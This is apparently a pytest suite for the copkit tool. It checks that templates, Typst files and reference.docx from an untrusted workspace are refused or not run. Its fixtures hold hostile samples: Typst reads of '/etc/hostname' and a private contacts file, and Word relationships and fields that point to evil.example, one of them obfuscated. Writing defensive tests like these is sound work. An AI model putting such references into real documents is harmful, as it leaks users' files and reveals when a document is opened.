"""Templates, Typst, fonts and reference.docx of a workspace from elsewhere are used only once this user said so."""

import io
import os
import zipfile
from pathlib import Path

import pytest

from copkit.render.outside import require_no_outside
from copkit.render.places import builtin
from copkit.render.problems import DocumentProblem
from copkit.world.trust import distrusted, seen, trust_in
from tests.shell import copkit, trust

AGENDA = ("agenda", "systems-leadership", "2026-06-09")
OURS = '{% extends "copkit/agenda.html.j2" %}{% block lead %}<p>Somebody else wrote this.</p>{% endblock %}'
WORDS = "Somebody else wrote this."


@pytest.fixture
def theirs(home: Path) -> Path:
    """A workspace from elsewhere, with a template."""
    (home / "templates").mkdir()
    (home / "templates" / "agenda.html.j2").write_text(OURS)
    return home


def printed(root: Path, form: str = "html", out: str = "-") -> tuple[str, str]:
    ran = copkit(*AGENDA, "--format", form, "--out", out, root=root)
    assert ran.code == 0, ran
    return ran.out, ran.err


def test_until_it_is_trusted_the_built_in_one_is_used_and_it_is_said(theirs: Path) -> None:
    page, said = printed(theirs)
    assert WORDS not in page and "<h1" in page
    assert "Not used, since you did not make this workspace here: templates/ (agenda.html.j2 not seen" in said
    assert "“copkit trust” lets copkit use them." in said
    trust(theirs)
    page, said = printed(theirs)
    assert WORDS in page and "Not used" not in said


def test_a_file_that_changed_or_came_is_asked_anew(theirs: Path) -> None:
    trust(theirs)
    (theirs / "templates" / "base.html.j2").write_bytes((builtin() / "base.html.j2").read_bytes())
    page, said = printed(theirs)
    assert WORDS not in page and "base.html.j2 not seen before" in said
    trust(theirs)
    (theirs / "templates" / "agenda.html.j2").write_text(OURS + " ")
    assert WORDS not in printed(theirs)[0]
    (theirs / "templates" / "agenda.html.j2").write_text(OURS)
    assert WORDS in printed(theirs)[0], "what was seen once may be used again"


def test_a_dry_run_changes_nothing_and_withdraw_takes_it_back(theirs: Path) -> None:
    ran = copkit("trust", "--dry-run", root=theirs)
    assert (ran.code, ran.out) == (
        0, "templates/agenda.html.j2\ncopkit would use this from now on, until it changes.\n"
    )  # fmt: skip
    assert WORDS not in printed(theirs)[0]
    trust(theirs)
    assert copkit("trust", "--withdraw", root=theirs).code == 0
    assert WORDS not in printed(theirs)[0]


def test_what_this_user_made_here_is_free(tmp_path: Path) -> None:
    root = tmp_path / "mine"
    options = ("--system", "Anytown", "--community", "Home First", "--contact", "cop@anytown.example")
    ran = copkit("init", root, *options, "--name", "Amina Khan", "--organisation", "ICB", "--yes")
    assert ran.code == 0, ran
    (root / "templates").mkdir()
    (root / "templates" / "agenda.html.j2").write_text(OURS)
    assert distrusted(root) == []
    other = tmp_path / "other"
    root.rename(other)
    assert distrusted(other), "it is known by its place"
    root.mkdir()
    (root / "templates").mkdir()
    (root / "templates" / "agenda.html.j2").write_text(OURS)
    assert distrusted(root), "and by the folder that it was: another in its place is not theirs"


def test_init_in_a_folder_that_holds_templates_makes_them_nobodys(tmp_path: Path) -> None:
    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "agenda.html.j2").write_text(OURS)
    options = ("--system", "Anytown", "--community", "Home First", "--contact", "cop@anytown.example")
    assert copkit("init", tmp_path, *options, "--name", "A B", "--organisation", "ICB", "--yes").code == 0
    assert trust_in(tmp_path).own == "" and distrusted(tmp_path) == ["agenda.html.j2"]


@pytest.mark.parametrize("made", ["", "{", "[]", '{"own": true}', '{"own": "x", "files": [], "private_dir": ""}'])
def test_a_record_that_makes_no_sense_is_no_trust(theirs: Path, made: str) -> None:
    trust(theirs)
    folder = Path(os.environ["XDG_CONFIG_HOME"]) / "copkit" / "trust"
    for record in folder.iterdir():
        record.write_text(made)
    assert WORDS not in printed(theirs)[0]


def test_texts_of_new_files_are_templates_too(theirs: Path) -> None:
    (theirs / "templates" / "new").mkdir()
    (theirs / "templates" / "new" / "plan.yaml.j2").write_text("theme: Theirs\n")
    words = ("new", "session", "systems-leadership", "2026-09-08", "--dry-run")
    ran = copkit(*words, root=theirs)
    assert (ran.code, "theme: Theirs" in ran.out, "Not used" in ran.err) == (0, False, True)
    trust(theirs)
    assert "theme: Theirs" in copkit(*words, root=theirs).out


@pytest.mark.needs("Unix")
def test_a_template_that_never_ends_to_be_read_is_refused(theirs: Path) -> None:
    os.mkfifo(theirs / "templates" / "pipe")
    ran = copkit(*AGENDA, root=theirs)
    assert (ran.code, "must be a plain file" in ran.err) == (3, True)


def test_a_link_is_judged_by_what_it_leads_to(theirs: Path, tmp_path: Path) -> None:
    (tmp_path / "far.j2").write_text("one")
    (theirs / "templates" / "far.j2").symlink_to(tmp_path / "far.j2")
    trust(theirs)
    (tmp_path / "far.j2").write_text("two")
    assert distrusted(theirs) == ["far.j2"]


# --- Typst -------------------------------------------------------------------------------------------------

TYPST = {
    "a file of the workspace": '#read("/private/contacts.yaml")',
    "a file beside": '#read("../private/contacts.yaml")',
    "a file of the computer": '#read("/etc/hostname")',
    "a package": '#import "@preview/cetz:0.2.2": canvas',
    "a local package": '#import "@local/x:1.0.0": y',
}


@pytest.mark.parametrize("way", TYPST)
def test_typst_reads_nothing_and_fetches_nothing(theirs: Path, way: str) -> None:
    (theirs / "private").mkdir()
    (theirs / "private" / "contacts.yaml").write_text("jo.ng: {email: secret@anytown.example}\n")
    (theirs / "templates" / "document.typ").write_text(TYPST[way])
    trust(theirs)
    ran = copkit(*AGENDA, "--format", "pdf", root=theirs)
    assert (ran.code, "document.typ" in ran.err) == (3, True), ran
    assert "secret" not in ran.out + ran.err and not (theirs / "build").exists()


def test_until_it_is_trusted_its_typst_is_not_run(theirs: Path) -> None:
    (theirs / "templates" / "document.typ").write_text('#panic("ran")')
    ran = copkit(*AGENDA, "--format", "pdf", root=theirs)
    assert (ran.code, "ran" in ran.out) == (0, False)
    trust(theirs)
    assert copkit(*AGENDA, "--format", "pdf", root=theirs).code == 3


# --- Word --------------------------------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def reference(change: dict[str, str]) -> bytes:
    """The built-in reference document with words put into some of its parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(builtin() / "reference.docx") as old, zipfile.ZipFile(made, "w") as new:
        for name in {*old.namelist(), *change}:
            text = old.read(name) if name in old.namelist() else b"<Relationships></Relationships>"
            if put := change.get(name):
                end = text.rindex(b"</")
                text = text[:end] + put.encode() + text[end:]
            new.writestr(name, text)
    return made.getvalue()


OUTSIDE = {
    "a template": {
        "word/_rels/settings.xml.rels": f'<Relationship Id="r9" Type="{REL}/attachedTemplate" '
        'Target="https://evil.example/t.dotm" TargetMode="External"/>'
    },
    "in other letters": {
        "word/_rels/document.xml.rels": f'<Relationship Id="r9" Type="{REL}/image" '
        'Target="\\\\evil.example\\x.png" TargetMode="&#69;xternal"/>'
    },
    "a field in two pieces": {
        "word/document.xml": '<x:r xmlns:x="u"><x:instrText>INCLUDEPI</x:instrText>'
        "<x:instrText>CTURE http://evil.example/a.png</x:instrText></x:r>"
    },
    "a simple field": {"word/document.xml": '<x:fldSimple xmlns:x="u" x:instr=" includetext file:///etc/x "/>'},
}


@pytest.mark.parametrize("way", OUTSIDE)
def test_a_reference_that_leads_outside_is_refused(theirs: Path, way: str) -> None:
    (theirs / "templates" / "reference.docx").write_bytes(reference(OUTSIDE[way]))
    trust(theirs)
    ran = copkit(*AGENDA, "--format", "docx", root=theirs)
    assert (ran.code, "templates/reference.docx leads outside" in ran.err) == (3, True), ran
    assert not (theirs / "build").exists()


def test_a_reference_without_links_is_used(theirs: Path) -> None:
    (theirs / "templates" / "reference.docx").write_bytes(reference({}))
    trust(theirs)
    assert copkit(*AGENDA, "--format", "docx", root=theirs).code == 0
    require_no_outside((builtin() / "reference.docx").read_bytes(), "")


@pytest.mark.parametrize("data", [b"", b"PK", b"no zip", b"PK\x03\x04" + bytes(99)])
def test_a_reference_that_is_no_word_file_is_refused(data: bytes) -> None:
    with pytest.raises(DocumentProblem, match="no Word file"):
        require_no_outside(data, "reference.docx")


def test_every_file_is_seen_but_what_systems_leave(theirs: Path) -> None:
    for name in (".hidden.j2", ".DS_Store", "fonts/a.ttf", "new/x.yaml.j2"):
        (theirs / "templates" / name).parent.mkdir(exist_ok=True)
        (theirs / "templates" / name).write_text("x")
    assert set(seen(theirs)) == {".hidden.j2", "agenda.html.j2", "fonts/a.ttf", "new/x.yaml.j2"}
